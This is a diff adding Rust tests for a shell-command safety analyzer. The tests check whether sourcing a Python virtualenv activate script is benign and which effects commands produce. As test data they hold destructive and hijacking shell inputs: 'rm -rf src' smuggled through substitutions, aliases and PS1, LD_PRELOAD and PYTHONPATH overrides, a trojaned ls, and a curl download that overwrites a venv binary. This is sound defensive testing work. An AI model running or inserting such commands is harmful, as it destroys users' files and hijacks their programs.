@@ -1,0 +1,103 @@
+use insta::assert_snapshot;
+
+use super::is_plain;
+use crate::fixture::check_with;
+
+/// The lines that activation comes down to, with one more.
+fn script(more: &str) -> String {
+    format!(
+        "# comment\ndeactivate () {{\n    if [ -n \"${{_OLD_VIRTUAL_PATH:-}}\" ] ; then\n        PATH=\"${{_OLD_VIRTUAL_PATH:-}}\"\n        export PATH\n        unset _OLD_VIRTUAL_PATH\n    fi\n    hash -r 2> /dev/null\n    unset VIRTUAL_ENV\n    if [ ! \"${{1:-}}\" = \"nondestructive\" ] ; then\n        unset -f deactivate\n    fi\n}}\ndeactivate nondestructive\ncase \"$(uname)\" in\n    CYGWIN*|MSYS*|MINGW*)\n        VIRTUAL_ENV=$(cygpath /repo/.venv)\n        export VIRTUAL_ENV\n        ;;\n    *)\n        export VIRTUAL_ENV=/repo/.venv\n        ;;\nesac\n_OLD_VIRTUAL_PATH=\"$PATH\"\nPATH=\"$VIRTUAL_ENV/\"bin\":$PATH\"\nexport PATH\n{more}\nif [ -z \"${{VIRTUAL_ENV_DISABLE_PROMPT:-}}\" ] ; then\n    _OLD_VIRTUAL_PS1=\"${{PS1:-}}\"\n    PS1=\"(.venv) ${{PS1:-}}\"\nfi\nhash -r 2> /dev/null || true\n"
+    )
+}
+
+fn activated(command: &str, more: &str, others: &[(&str, &str)]) -> String {
+    let text = script(more);
+    let mut files =
+        vec![("/repo/.venv/bin/activate", text.as_str()), ("/repo/.venv/pyvenv.cfg", "home = /usr/bin\n")];
+    files.extend(others);
+    check_with(command, &files)
+}
+
+#[test]
+fn what_it_consists_of() {
+    for more in [
+        "",
+        "VIRTUAL_ENV_PROMPT=$(basename \"$VIRTUAL_ENV\")",
+        "VIRTUAL_ENV='/repo/.venv'",
+        "if [ \"$OSTYPE\" = \"cygwin\" ] || [ \"$OSTYPE\" = \"msys\" ] ; then\nexport VIRTUAL_ENV=$(cygpath \"/repo/.venv\")\nfi",
+        "if [ \"${BASH_SOURCE-}\" = \"$0\" ]; then\n echo \"You must source this script: \\$ source $0\" >&2\n exit 33\nfi",
+        "PKG_CONFIG_PATH=\"${VIRTUAL_ENV}/lib/pkgconfig${PKG_CONFIG_PATH:+:${PKG_CONFIG_PATH}}\"",
+        "if ! [ -z \"${SCRIPT_PATH+_}\" ] ; then\n_OLD_SCRIPT_PATH=\"$SCRIPT_PATH\"\nelif [ -n \"${ZSH_VERSION:+x}\" ] ; then\nSCRIPT_PATH=\"${(%):-%x}\"\nfi",
+        "VIRTUAL_ENV=$(cygpath -u \"$VIRTUAL_ENV\")",
+        "alias pydoc 2>/dev/null >/dev/null && unalias pydoc || true",
+    ] {
+        assert!(is_plain(&script(more), "/repo/.venv"), "{more}");
+    }
+    for more in [
+        "rm -rf src",
+        "PATH=\"/tmp/x:$PATH\"",
+        "VIRTUAL_ENV=/tmp/x",
+        "VIRTUAL_ENV_PROMPT=$(rm -rf src)",
+        "VIRTUAL_ENV_PROMPT=`rm -rf src`",
+        "PS1=x rm -rf src",
+        "if [ -n \"$(rm -rf src)\" ] ; then\nfi",
+        "if rm -rf src ; then\nfi",
+        "if [ a ] || rm -rf src || [ b ] ; then\nfi",
+        "echo \"$(rm -rf src)\" >&2",
+        "export LD_PRELOAD=/tmp/x.so",
+        "PYTHONPATH=/tmp/x",
+        "hash -p /tmp/x python",
+        "alias python='rm -rf src'",
+        "case \"$(rm -rf src)\" in",
+        "unset -f cd; rm -rf src",
+        "PS1=\"\\\n$(rm)\"",
+    ] {
+        assert!(!is_plain(&script(more), "/repo/.venv"), "{more}");
+    }
+}
+
+#[test]
+fn programs_of_the_environment() {
+    assert_snapshot!(activated("source .venv/bin/activate && pytest -q", "", &[]), @"
+    fs.read /repo/.venv/bin/activate, read
+    exec.test pytest, execute
+    ");
+    assert_snapshot!(activated(". .venv/bin/activate; python -c 'print(1)'; ls", "", &[]), @"
+    fs.read /repo/.venv/bin/activate, read
+    exec.read python, read
+    fs.read /repo, read
+    ");
+    // A program that somebody put there is read.
+    assert_snapshot!(activated("source .venv/bin/activate && ls", "", &[("/repo/.venv/bin/ls", "#!/bin/sh\nrm -rf src\n")]), @"
+    fs.read /repo/.venv/bin/activate, read
+    fs.delete /repo/src, destroy
+    fs.read /repo/.venv/bin/ls, read
+    fs.read /repo, read
+    ");
+    assert_snapshot!(activated("source .venv/bin/activate && ls", "", &[("/repo/.venv/bin/python", "#!/bin/sh\nrm -rf src\n")]), @"
+    fs.read /repo/.venv/bin/activate, read
+    fs.read /repo, read
+    ");
+    assert_snapshot!(activated("(source .venv/bin/activate); ls", "", &[("/repo/.venv/bin/ls", "#!/bin/sh\nrm -rf src\n")]), @"
+    fs.read /repo/.venv/bin/activate, read
+    fs.read /repo, read
+    ");
+    // What more the script does is listed.
+    assert!(activated("source .venv/bin/activate && ls", "rm -rf src", &[]).contains("fs.delete /repo/src"));
+    assert!(
+        activated("_OLD_VIRTUAL_PATH=/tmp/x source .venv/bin/activate && ls", "", &[])
+            .contains("exec.opaque")
+    );
+    assert!(
+        activated("_OLD_VIRTUAL_PATH=/tmp/x; source .venv/bin/activate && ls", "", &[])
+            .contains("exec.opaque")
+    );
+    assert!(
+        activated("echo 'rm -rf src' >> .venv/bin/activate; source .venv/bin/activate", "", &[])
+            .contains("src")
+    );
+    assert!(
+        activated("curl https://x.example/a > .venv/bin/ls; source .venv/bin/activate; ls", "", &[])
+            .contains("exec.remote")
+    );
+}
